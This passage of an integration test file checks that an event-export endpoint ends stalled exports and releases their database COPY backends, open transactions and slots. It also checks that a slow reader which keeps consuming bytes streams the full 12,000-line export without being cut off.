    await waitFor(() => stall.tally.services.exports.started === 2, 30_000, 'both exports started');
    await waitFor(() => slots(stall) === 0, 30_000, 'the stalled exports are ended');
    await waitFor(async () => (await copyBackends(stall)) === 0, 30_000, 'their COPYs are gone');
    // No transaction of the export is left open either.
    expect(await idleEventTransactions(stall)).toBe(0);
    for (const reader of readers) expect(isCutResponse(await reader.drain())).toBe(true);
    // The workspace's slots are back.
    const again = await exportAs(stall, bulk(), owner.accessToken);
    expect(again.status).toBe(200);
    expect(again.text.split('\n')).toHaveLength(12_001);
  });

  it('a slow reader that keeps taking bytes is not ended, however long it takes', async () => {
    const response = await fetch(`${stall.url}/v1/export/events?${new URLSearchParams(bulk()).toString()}`, {
      headers: { authorization: `Bearer ${owner.accessToken}` },
    });
    const reader = response.body?.getReader();
    if (!reader) throw new Error('no body');
    let bytes = 0;
    let sincePause = 0;
    let lines = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.length;
      sincePause += value.length;
      for (const byte of value) if (byte === 0x0a) lines += 1;
      // A client that pauses (well under the timeout) after every 1.5 MB: far longer than the timeout in all.
      if (sincePause > 1_500_000) {
        sincePause = 0;
        await new Promise((resolve) => setTimeout(resolve, 500));
      }
    }
    expect(bytes).toBeGreaterThan(10_000_000);
    expect(lines).toBe(12_000);
  });
});
